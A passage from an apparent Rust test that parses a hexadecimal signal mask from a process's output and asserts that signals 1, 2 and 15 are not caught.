    let mask = u64::from_str_radix(stdout.split_whitespace().nth(1).unwrap(), 16).unwrap();
    for signal in [1u32, 2, 15] {
        assert_eq!(
            mask & (1 << (signal - 1)),
            0,
            "signal {signal} caught: {stdout}"
        );
    }
}
